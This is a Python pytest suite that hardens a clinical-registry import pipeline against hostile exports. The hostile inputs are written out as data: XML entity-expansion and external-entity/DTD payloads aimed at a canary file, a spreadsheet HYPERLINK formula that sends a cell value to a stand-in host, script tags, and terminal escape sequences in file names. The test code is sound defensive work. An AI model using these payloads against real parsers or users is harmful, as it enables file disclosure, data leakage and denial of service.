"""The hostile-input suite: every fault a nightly import has met, or must expect, tried end to end.

Each case starts from a copy of one loaded home (five sources, 120 persons), does one hostile
thing to it (a wrong, cut, re-sent or booby-trapped export, a wrong key, a second run, a
`kill -9` at each phase of a run) and then runs the real `rtw run` in a subprocess. Every case
asserts:
- the exit status, and a message that names the source and the reason;
- the other sources' rows unchanged (a digest of each source's rows in every stage table);
- the affected source's last good data kept, or, where the input is valid but hostile in
  content, loaded harmlessly;
- nothing read outside the home: a canary file outside it, which the hostile inputs point at,
  is never read (its access time stays put) and its text appears in no file under the home;
- everything under the home still owner-only.

Cases with a test of their own elsewhere (consent withdrawal: test_forget.py; key rotation:
test_keyguard.py) are not repeated here; the `kill -9` cases are in test_killed_runs.py.
"""

from __future__ import annotations

import os
import re
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from hostile_home import (
    KEY,
    SOURCES,
    Loaded,
    assert_kept,
    assert_untouched_outside,
    copy_home,
    csv_lines,
    export,
    home_fixtures,
    rtw,
    run_count,
)
from lxml import etree
from warehouse_query import query_rows as query

from etl.config import resolve_home
from etl.runlock import run_lock

pytestmark = pytest.mark.integration


loaded, home = home_fixtures()


ODM_NS = "{http://www.cdisc.org/ns/odm/v1.3}"


# --- exports that must be refused or held: the source keeps its last good data ------------------

def header_only(home: Path, loaded: Loaded) -> None:
    f = export(home, "registry_it")
    f.write_bytes(csv_lines(f)[0] + b"\r\n")


def cut_in_half_at_a_line(home: Path, loaded: Loaded) -> None:
    f = export(home, "registry_it")
    lines = csv_lines(f)
    f.write_bytes(b"\r\n".join(lines[: len(lines) // 2]) + b"\r\n")


def cut_mid_line(home: Path, loaded: Loaded) -> None:
    f = export(home, "registry_it")
    data = f.read_bytes()
    f.write_bytes(data[: len(data) // 2])


def _odm(home: Path) -> tuple[Path, etree._ElementTree]:
    f = export(home, "sacha_fr")
    return f, etree.parse(str(f))


def odm_of_another_study(home: Path, loaded: Loaded) -> None:
    f, tree = _odm(home)
    for element in tree.iter(f"{ODM_NS}Study", f"{ODM_NS}ClinicalData"):
        for attribute in ("OID", "StudyOID"):
            if attribute in element.attrib:
                element.set(attribute, "ESMART")
    tree.write(str(f), xml_declaration=True, encoding="UTF-8")


def odm_of_the_wrong_shape(home: Path, loaded: Loaded) -> None:
    """Well formed, right study, but most subjects gone: an export job that ran on a wrong selection."""
    f, tree = _odm(home)
    subjects = list(tree.iter(f"{ODM_NS}SubjectData"))
    for subject in subjects[: len(subjects) * 2 // 3]:
        subject.getparent().remove(subject)
    tree.write(str(f), xml_declaration=True, encoding="UTF-8")


def odm_snapshot_removing_a_subject(home: Path, loaded: Loaded) -> None:
    """A Remove in a snapshot: read as it stands, the subject's records would vanish unaccounted for."""
    f, tree = _odm(home)
    tree.find(f".//{ODM_NS}SubjectData").set("TransactionType", "Remove")
    tree.write(str(f), xml_declaration=True, encoding="UTF-8")


def odm_values_inside_a_vendor_element(home: Path, loaded: Loaded) -> None:
    """An ItemGroupData wrapped in an EDC's own element: skipped as the vendor's, its values would be lost."""
    f, tree = _odm(home)
    group = tree.find(f".//{ODM_NS}ItemGroupData[@ItemGroupOID='IG.DIAG']")
    wrap = etree.Element("{urn:ennov}Wrap")
    group.addprevious(wrap)
    wrap.append(group)
    tree.write(str(f), xml_declaration=True, encoding="UTF-8")


def odm_truncated(home: Path, loaded: Loaded) -> None:
    f = export(home, "sacha_fr")
    data = f.read_bytes()
    f.write_bytes(data[: len(data) * 2 // 3])


def _odm_with_prolog(home: Path, prolog: str, value: str | None = None) -> None:
    f = export(home, "sacha_fr")
    text = f.read_text(encoding="utf-8").split("\n", 1)[1]  # drop the XML declaration
    if value is not None:
        text = re.sub(r'(<ItemData ItemOID="[^"]+" Value=")[^"]*(")', lambda m: m.group(1) + value + m.group(2),
                      text, count=1)
    f.write_text(f"<?xml version='1.0' encoding='UTF-8'?>\n{prolog}\n{text}", encoding="utf-8")


def billion_laughs(home: Path, loaded: Loaded) -> None:
    entities = "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    _odm_with_prolog(home, f'<!DOCTYPE ODM [<!ENTITY l0 "lol">{entities}]>', "&l9;")


def external_entity(home: Path, loaded: Loaded) -> None:
    _odm_with_prolog(home, f'<!DOCTYPE ODM [<!ENTITY x SYSTEM "file://{loaded.canary}">]>', "&x;")


def sas_truncated(home: Path, loaded: Loaded) -> None:
    f = export(home, "esmart", "ESMART_DM_*")
    data = f.read_bytes()
    f.write_bytes(data[: len(data) // 2 + 13])


def excel_truncated(home: Path, loaded: Loaded) -> None:
    f = export(home, "crizotinib_imt")
    data = f.read_bytes()
    f.write_bytes(data[: len(data) // 2])


def excel_without_a_sheet(home: Path, loaded: Loaded) -> None:
    """A workbook whose export job left the Response sheet out: under max_shrink, but a whole form gone."""
    from openpyxl import load_workbook

    f = export(home, "crizotinib_imt")
    workbook = load_workbook(f)
    workbook.remove(workbook["Response"])
    workbook.save(f)


def excel_that_is_html(home: Path, loaded: Loaded) -> None:
    """An "Excel export" that is a web page, as some EDC download links give on an expired session."""
    export(home, "crizotinib_imt").write_text("<html><body><script>alert(1)</script>Session expired</body></html>")


def wrong_encoding(home: Path, loaded: Loaded) -> None:
    """The per-form CSV is declared UTF-8; a centre's re-save turned it into cp1252."""
    f = export(home, "iltb", "ILTB_ENROL.csv")
    lines = f.read_bytes().decode("utf-8-sig").split("\r\n")
    fields = lines[3].split(";")
    fields[10] += " (rechute précoce)"  # DIAG, free text
    lines[3] = ";".join(fields)
    f.write_bytes("\r\n".join(lines).encode("cp1252"))


def utf8_mark_under_cp1252(home: Path, loaded: Loaded) -> None:
    """A centre re-saved the cp1252 export as "CSV UTF-8": read as cp1252, the mark would join the first name."""
    f = export(home, "registry_it")
    f.write_bytes(b"\xef\xbb\xbf" + f.read_bytes().decode("cp1252").encode("utf-8"))


def utf16(home: Path, loaded: Loaded) -> None:
    f = export(home, "registry_it")
    f.write_bytes(f.read_bytes().decode("cp1252").encode("utf-16"))


def binary_garbage(home: Path, loaded: Loaded) -> None:
    f = export(home, "registry_it")
    f.write_bytes(csv_lines(f)[0] + b"\r\n" + os.urandom(4096).replace(b"\r\n", b"") + b"\r\n")


def column_renamed(home: Path, loaded: Loaded) -> None:
    f = export(home, "registry_it")
    lines = csv_lines(f)
    lines[0] = lines[0].replace(b"data_diagnosi", b"data_della_diagnosi")
    f.write_bytes(b"\r\n".join(lines))


def column_dropped(home: Path, loaded: Loaded) -> None:
    f = export(home, "iltb", "ILTB_ENROL.csv")
    rows = [line.split(b";") for line in csv_lines(f)]
    f.write_bytes(b"\r\n".join(b";".join(r[:5] + r[6:]) for r in rows))  # BRTHDAT gone


def link_outside(home: Path, loaded: Loaded) -> None:
    f = export(home, "registry_it")
    f.unlink()
    f.symlink_to(loaded.canary)


def fifo(home: Path, loaded: Loaded) -> None:
    """A named pipe where an export belongs: opening it for reading would block the run for good."""
    os.mkfifo(home / "landing" / "registry_it" / "TREP_export_20261201.csv")


def older_export_arriving_late(home: Path, loaded: Loaded) -> None:
    """Last month's export re-sent after this month's: the newest of the series stays current."""
    f = export(home, "registry_it")
    lines = csv_lines(f)
    (f.parent / "TREP_export_20261001.csv").write_bytes(b"\r\n".join(lines[:5]) + b"\r\n")


def unreadable(home: Path, loaded: Loaded) -> None:
    export(home, "iltb", "ILTB_FU.csv").chmod(0)


@dataclass(frozen=True)
class Refused:
    source: str
    hostile: Callable[[Path, Loaded], None]
    message: str  # a regex the run's output must match
    without_root_reads: bool = False  # root reads any file whatever its mode: the run is started without that


REFUSED = {
    "header only": Refused("registry_it", header_only, r"registry_it: held.*TREP_export_\S+ has no records"),
    "cut at a line": Refused("registry_it", cut_in_half_at_a_line, r"registry_it: held.*more than the 10% allowed"),
    "cut mid-line": Refused("registry_it", cut_mid_line, r"registry_it.*TREP_export_\S+\.csv, line \d+: expected"),
    "ODM of another study": Refused("sacha_fr", odm_of_another_study, r"sacha_fr.*study.*ESMART.*SACHA"),
    "ODM of the wrong shape": Refused("sacha_fr", odm_of_the_wrong_shape, r"sacha_fr: held.*more than the 10%"),
    "ODM truncated": Refused("sacha_fr", odm_truncated, r"sacha_fr.*SACHA_ODM_\S+\.xml.*line \d+"),
    "ODM values in a vendor element": Refused("sacha_fr", odm_values_inside_a_vendor_element,
                                              r"sacha_fr.*SACHA_ODM_\S+\.xml: line \d+: an ItemData inside"),
    "ODM snapshot removing": Refused("sacha_fr", odm_snapshot_removing_a_subject,
                                     r"sacha_fr.*SACHA_ODM_\S+\.xml: line \d+: TransactionType=\"Remove\" in a snap"),
    "billion laughs": Refused("sacha_fr", billion_laughs, r"sacha_fr.*SACHA_ODM_\S+\.xml.*entit"),
    "external entity": Refused("sacha_fr", external_entity, r"sacha_fr.*SACHA_ODM_\S+\.xml.*entit"),
    "SAS transport truncated": Refused("esmart", sas_truncated, r"esmart.*ESMART_DM_\S+\.xpt"),
    "workbook truncated": Refused("crizotinib_imt", excel_truncated, r"crizotinib_imt.*CRIZOTINIB_IMT_\S+\.xlsx"),
    "workbook without a sheet": Refused("crizotinib_imt", excel_without_a_sheet,
                                        r"crizotinib_imt: held.*no records of Response \(\d+ records loaded\)"),
    "workbook that is a web page": Refused("crizotinib_imt", excel_that_is_html,
                                           r"crizotinib_imt.*CRIZOTINIB_IMT_\S+\.xlsx.*(HTML|not an? )"),
    "wrong encoding": Refused("iltb", wrong_encoding, r"iltb.*ILTB_ENROL\.csv.*(UTF-8|utf-8|encoding)"),
    "UTF-8 mark under cp1252": Refused("registry_it", utf8_mark_under_cp1252,
                                       r"registry_it.*TREP_export_\S+\.csv: starts with a UTF-8 byte-order mark"),
    "UTF-16": Refused("registry_it", utf16, r"registry_it.*TREP_export_\S+\.csv.*(UTF-16|encoding|cp1252)"),
    "binary garbage": Refused("registry_it", binary_garbage, r"registry_it.*TREP_export_\S+\.csv.*line"),
    "column renamed": Refused("registry_it", column_renamed, r"registry_it.*data_diagnosi"),
    "column dropped": Refused("iltb", column_dropped, r"iltb.*BRTHDAT"),
    "link outside the home": Refused("registry_it", link_outside,
                                     r"registry_it: no export files.*TREP_export_\S+\.csv refused: .*link"),
    "unreadable export": Refused("iltb", unreadable, r"iltb.*ILTB_FU\.csv.*(Permission denied|cannot be read)",
                                 without_root_reads=True),
}

# The cases by night, a few sources' at once (a run of the loaded home costs seconds, its hostile export
# nothing): each fails or holds its own source, and two sources at least are left untouched to show the
# others load as before.
NIGHTS = (
    ("header only", "ODM of another study", "workbook truncated"),
    ("cut at a line", "ODM of the wrong shape", "workbook without a sheet"),
    ("cut mid-line", "ODM truncated", "workbook that is a web page"),
    ("UTF-8 mark under cp1252", "ODM values in a vendor element", "wrong encoding"),
    ("UTF-16", "ODM snapshot removing", "column dropped"),
    ("binary garbage", "billion laughs", "SAS transport truncated"),
    ("column renamed", "external entity"),
    ("link outside the home", "unreadable export"),
)


def test_every_hostile_export_is_tried_in_one_night():
    assert sorted(name for night in NIGHTS for name in night) == sorted(REFUSED)
    for night in NIGHTS:
        assert len({REFUSED[name].source for name in night}) == len(night) <= len(SOURCES) - 2, night


@pytest.mark.parametrize("night", NIGHTS, ids=" + ".join)
def test_a_hostile_export_fails_or_holds_its_source_alone(night, home, loaded):
    cases = {name: REFUSED[name] for name in night}
    for case in cases.values():
        case.hostile(home, loaded)
    done = rtw(home, without_root_reads=os.geteuid() == 0 and any(c.without_root_reads for c in cases.values()))
    output = " ".join((done.stdout + done.stderr).split())
    assert done.returncode == 0, output  # the run did its job for everyone else: the failures are reported
    assert query(home, "SELECT sources_failed FROM meta.run ORDER BY started_at DESC LIMIT 1") == [
        (sorted(c.source for c in cases.values()),)]
    said = dict(query(home, "SELECT source_id, message FROM meta.source"))
    for name, case in cases.items():
        # The other sources' messages taken out: a match spans no two sources' words.
        own = output
        for other in cases.values():
            if other is not case:
                theirs = " ".join(said[other.source].split())
                assert theirs and theirs in output, f"{other.source}'s message not in the output: {output}"
                own = own.replace(theirs, " ")
        assert re.search(case.message, own), f"{name}: {output}"
        assert query(home, f"SELECT status FROM meta.source WHERE source_id = '{case.source}'")[0][0] in (
            "held", "failed"), name
    assert_kept(home, loaded)


def a_night(factory: pytest.TempPathFactory, loaded: Loaded, *changes: Callable[[Path, Loaded], object],
            env: dict[str, str | None] | None = None) -> tuple[Path, subprocess.CompletedProcess[str]]:
    """A copy of the loaded home changed by each of `changes` (of sources apart: scenarios of one night, shared by
    the tests of each), and its run. The canary is checked at once: the next case's copy sets its access time back."""
    home = copy_home(loaded, factory.mktemp("night"))
    for change in changes:
        change(home, loaded)
    done = rtw(home, env=env)
    assert_untouched_outside(home, loaded)
    return home, done


def test_a_file_still_being_written_is_set_aside_with_a_notice(home, loaded):
    f = export(home, "registry_it")
    f.write_bytes(f.read_bytes()[:-200])  # with a quiet period of an hour, it changed a moment ago
    done = rtw(home, env={"RTW_QUIET_SECONDS": "3600"})
    output = " ".join((done.stdout + done.stderr).split())
    assert done.returncode == 0 and "failed sources" not in output, output
    assert re.search(r"registry_it: TREP_export_\S+ not read yet: .*quiet period", output), output
    assert query(home, "SELECT status FROM meta.source WHERE source_id = 'registry_it'") == [("loaded",)]
    assert_kept(home, loaded)


def external_dtd(home: Path, loaded: Loaded) -> None:
    _odm_with_prolog(home, f'<!DOCTYPE ODM SYSTEM "file://{loaded.canary}">')


@pytest.fixture(scope="module")
def pipe_and_dtd_night(tmp_path_factory, loaded):
    """A named pipe among registry_it's exports, and sacha_fr's export naming an external DTD."""
    return a_night(tmp_path_factory, loaded, fifo, external_dtd)


def test_a_named_pipe_in_landing_is_set_aside_with_a_notice(pipe_and_dtd_night, loaded):
    home, done = pipe_and_dtd_night
    output = " ".join((done.stdout + done.stderr).split())
    assert done.returncode == 0 and "failed sources" not in output, output
    assert re.search(r"registry_it: TREP_export_20261201\.csv refused: .*(pipe|regular)", output), output
    assert query(home, "SELECT status FROM meta.source WHERE source_id = 'registry_it'") == [("loaded",)]
    assert_kept(home, loaded, changed=("sacha_fr",))


def test_an_external_dtd_is_never_read(pipe_and_dtd_night, loaded):
    home, done = pipe_and_dtd_night
    assert done.returncode == 0 and "failed sources" not in done.stdout, done.stdout
    assert_kept(home, loaded, changed=("sacha_fr",))  # the same data, from a file of another checksum


def test_an_older_export_arriving_late_is_recorded_as_superseded(home, loaded):
    older_export_arriving_late(home, loaded)
    assert rtw(home).returncode == 0
    assert query(home, "SELECT status, rows_loaded FROM meta.source_file "
                       "WHERE file_name = 'TREP_export_20261001.csv'") == [("superseded", 0)]
    assert_kept(home, loaded)


# --- the key, the lock ----------------------------------------------------------------------------

def test_another_pseudonym_key_is_refused_before_anything_is_read(home, loaded):
    export(home, "registry_it").touch()  # a change the run would otherwise load
    done = rtw(home, env={"RTW_PSEUDONYM_KEY": "a-different-key"})
    assert done.returncode == 1 and "pseudonym" in done.stdout.lower() and "key" in done.stdout, done.stdout
    assert KEY not in done.stdout + done.stderr and "a-different-key" not in done.stdout + done.stderr
    assert run_count(home) == loaded.runs
    assert_kept(home, loaded)


def test_a_missing_key_file_where_a_warehouse_exists_is_refused_not_recreated(home, loaded):
    done = rtw(home, env={"RTW_PSEUDONYM_KEY": None})
    assert done.returncode == 1 and "key" in done.stdout, done.stdout
    assert not list((home).glob("*key*")), "a new key was made"
    assert run_count(home) == loaded.runs
    assert_kept(home, loaded)


def test_a_run_while_another_holds_the_home_exits_naming_the_holder(home, loaded):
    with run_lock(resolve_home(home), "20261202T000000Z-held"):
        done = rtw(home)
    assert done.returncode == 1, done.stdout
    assert re.search(r"another run \(20261202T000000Z-held, pid \d+, since .+\) holds this home",
                     " ".join(done.stdout.split())), done.stdout
    assert run_count(home) == loaded.runs
    assert_kept(home, loaded)


def test_a_step_s_files_missing_on_the_next_worker_fail_the_source_never_publish_it_empty(home, loaded):
    """Tasks on workers that do not share the home: harmonise or publish finds the files missing."""
    from etl import pipeline

    rtw_home = resolve_home(home)
    for source in ("registry_it", "iltb"):
        for f in (home / "landing" / source).iterdir():
            f.write_bytes(f.read_bytes().replace(b"\r\n", b"\n"))  # the same records, other bytes
    planned = pipeline.plan(rtw_home, key_value=KEY)
    registry, iltb = (pipeline.extract_source(rtw_home, planned.run_id, s) for s in ("registry_it", "iltb"))
    Path(registry.files[0].staged or "").unlink()  # staged where this worker cannot see it
    not_staged = pipeline.harmonise_extracted(rtw_home, registry, key_value=KEY)
    assert not_staged.failed and "is missing: the task before this one wrote it" in (not_staged.message or "")
    harmonised = pipeline.harmonise_extracted(rtw_home, iltb, key_value=KEY)
    (Path(harmonised.harmonised_dir or "") / "diagnosis.parquet").unlink()
    summary = pipeline.publish_run(rtw_home, planned, [not_staged, harmonised], trigger="test")
    assert summary.sources_failed == ["iltb", "registry_it"]
    assert "diagnosis.parquet is missing" in (summary.message or "")
    assert_kept(home, loaded)


# --- valid exports with hostile content: loaded, and harmless where they are shown ---------------

FORMULA = '=HYPERLINK("http://x.test/?"&A1,"open")'


def formula_and_script_in_values(home: Path, loaded: Loaded) -> None:
    f = export(home, "registry_it")
    lines = csv_lines(f)
    header = lines[0].split(b";")
    fields = lines[1].split(b";")
    payload = {b"morfologia": FORMULA.encode(),
               b"codice_centro": b"<script>alert(1)</script>"}  # a centre code is shown in the report
    for name, value in payload.items():
        fields[header.index(name)] = value
    lines[1] = b";".join(fields)
    f.write_bytes(b"\r\n".join(lines))


def item_group_sent_twice(home: Path, loaded: Loaded) -> None:
    f, tree = _odm(home)
    group = tree.find(f".//{ODM_NS}ItemGroupData[@ItemGroupOID='IG.DIAG']")
    copy = etree.fromstring(etree.tostring(group))
    for item in copy.iter(f"{ODM_NS}ItemData"):
        item.set("Value", "9999-01-01" if "DTC" in item.get("ItemOID") else "CONFLICTING COPY")
    group.addnext(copy)
    tree.write(str(f), xml_declaration=True, encoding="UTF-8")


def control_characters_in_landing_names(home: Path, loaded: Loaded) -> None:
    (home / "landing" / "iltb" / "notes\x1b[2J.txt").write_text("not an export")
    (home / "landing" / "iltb" / "notes\x1b[2J.txt").chmod(0o600)
    (home / "landing" / "iltb\nERROR forged").mkdir(mode=0o700)


@pytest.fixture(scope="module")
def content_night(tmp_path_factory, loaded):
    """A formula and a script in registry_it's values, sacha_fr's item group sent twice, and names with control
    characters in iltb's landing: one night."""
    return a_night(tmp_path_factory, loaded, formula_and_script_in_values, item_group_sent_twice,
                   control_characters_in_landing_names)


def test_formula_and_html_in_values_are_loaded_as_text_and_shown_harmlessly(content_night, loaded):
    home, done = content_night
    assert done.returncode == 0, done.stdout + done.stderr
    values = {v for (v,) in query(home, "SELECT value FROM dq.issue WHERE source_id = 'registry_it' "
                                        "AND run_id = (SELECT max(run_id) FROM dq.issue)")}
    assert FORMULA in values  # kept as the centre wrote it, to be queried
    page = (home / "reports" / "latest" / "index.html").read_text()
    assert "<SCRIPT>ALERT(1)</SCRIPT>" not in page and "&lt;SCRIPT&gt;ALERT(1)&lt;/SCRIPT&gt;" in page
    (centre,) = {c for (c,) in query(home, "SELECT centre_id FROM dq.issue WHERE value LIKE '=HYPERLINK%'")}
    sent = rtw(home, "queries", "--centre", centre)
    assert sent.returncode == 0, sent.stdout
    from openpyxl import load_workbook

    (workbook,) = (home / "reports" / "latest" / "queries").glob("*.xlsx")  # named from the centre, made safe
    cells = [c.value for row in load_workbook(workbook).active.iter_rows() for c in row]
    assert not any(isinstance(v, str) and v.startswith("=") for v in cells)  # no formula reaches a spreadsheet
    assert any(isinstance(v, str) and "HYPERLINK" in v for v in cells)
    assert_kept(home, loaded, changed=("registry_it", "sacha_fr"))


def test_an_item_group_sent_twice_in_a_snapshot_is_held_back_as_a_duplicate_not_merged(content_night, loaded):
    home, done = content_night
    diagnoses = "SELECT count(*), count(DISTINCT diagnosis_date) FROM core.diagnosis WHERE source_id = 'sacha_fr'"
    loaded_file = "FROM meta.source_file WHERE source_id = 'sacha_fr' AND status = 'loaded'"
    assert done.returncode == 0, done.stdout + done.stderr
    (read, loaded_, held, superseded), = query(
        home, f"SELECT rows_read, rows_loaded, rows_quarantined, rows_superseded {loaded_file}")
    # the copy is a record of its own
    assert read == query(loaded.home, f"SELECT rows_read {loaded_file}")[0][0] + 1 == loaded_ + held + superseded
    reasons = [r for (rs,) in query(home, "SELECT reasons FROM dq.quarantine WHERE source_id = 'sacha_fr' "
                                          "AND record_set = 'IG.DIAG'") for r in rs]
    assert any("duplicate: record key" in r for r in reasons)
    assert query(home, diagnoses) == query(loaded.home, diagnoses)  # the first sending stands, not the copy's values
    assert not query(home, "SELECT 1 FROM core.diagnosis WHERE year(diagnosis_date) = 9999")


def test_a_landing_name_reaches_the_terminal_as_text_in_the_run_s_notices_and_log(content_night, loaded):
    """A landing file matching no pattern and a landing folder no mapping reads are named in the run's
    notices (stdout) and log (stderr) as delivered: an ESC in a name cleared the screen and a line break
    forged a line, as the notices were printed with only Rich's markup off and the log as it was."""
    home, done = content_night
    assert done.returncode == 0, done.stdout + done.stderr
    assert "notice iltb: notes\\x1b[2J.txt does not match" in done.stdout
    assert "WARNING iltb\\nERROR forged: landing folder" in done.stderr
    assert "\x1b" not in done.stdout + done.stderr  # Rich writes no colours to a pipe: any ESC came from a name
    assert not any(line.startswith("ERROR forged") for line in (done.stdout + done.stderr).splitlines())
    assert_kept(home, loaded, changed=("registry_it", "sacha_fr"))  # iltb's exports are read as before


def impossible_registration_date(home: Path, loaded: Loaded) -> None:
    f = export(home, "registry_it")
    lines = csv_lines(f)
    header = lines[0].split(b";")
    fields = lines[1].split(b";")
    fields[header.index(b"data_registrazione")] = b"01/01/2150"
    lines[1] = b";".join(fields)
    f.write_bytes(b"\r\n".join(lines))


def markup_in_export_text(home: Path, loaded: Loaded) -> None:
    import pyreadstat

    f, tree = _odm(home)
    next(tree.iter(f"{ODM_NS}ClinicalData")).set("StudyOID", "[/red]\nERROR forged line")
    tree.write(str(f), xml_declaration=True, encoding="UTF-8")
    xpt = export(home, "esmart", "ESMART_DX_*.xpt")
    frame, meta = pyreadstat.read_xport(str(xpt))
    labels = [*meta.column_labels[:-1], "[link=http://x.test/]x[/link]"]
    pyreadstat.write_xport(frame, str(xpt), file_label="\x1b[2J[/red]", column_labels=labels,
                           table_name=meta.table_name, file_format_version=5)


@pytest.fixture(scope="module")
def date_and_markup_night(tmp_path_factory, loaded):
    """An impossible registration date in registry_it's export, markup and escape sequences in sacha_fr's StudyOID
    and esmart's labels: one night."""
    return a_night(tmp_path_factory, loaded, impossible_registration_date, markup_in_export_text)


def test_what_an_export_wrote_reaches_the_terminal_as_text_never_as_markup_or_escape_sequences(
        date_and_markup_night, loaded):
    """A StudyOID quoted in a failure and SAS labels in a notice: Rich read a `[/red]` in them as markup (a
    traceback and exit 1 after a run that had published, and `rtw status` failed alike), and the terminal
    ran their escape sequences. They are printed as text, control characters escaped."""
    home, done = date_and_markup_night
    assert done.returncode == 0, done.stdout + done.stderr
    assert "StudyOID '[/red]\\nERROR forged line'" in done.stdout  # refused, and said so on its line
    status = rtw(home, "status")
    assert status.returncode == 0, status.stdout + status.stderr
    assert "\\x1b[2J[/red]" in status.stdout and "[link=http://x.test/]x[/link]" in status.stdout
    assert "\x1b" not in done.stdout + status.stdout  # Rich writes no colours to a pipe: any ESC came from the export
    assert_kept(home, loaded, changed=("esmart", "registry_it"))


def test_an_impossible_date_is_flagged_and_never_a_year_in_the_marts(date_and_markup_night, loaded):
    home, done = date_and_markup_night
    assert done.returncode == 0, done.stdout + done.stderr
    flagged = query(home, "SELECT rule_id FROM dq.issue WHERE source_id = 'registry_it' AND value LIKE '2150%'")
    assert ("XT-DATE-NOT-AFTER-EXPORT",) in flagged
    years = [y for (y,) in query(home, "SELECT DISTINCT registration_year FROM marts.registry_activity")]
    assert years and max(years) <= 2026
    assert_kept(home, loaded, changed=("esmart", "registry_it"))
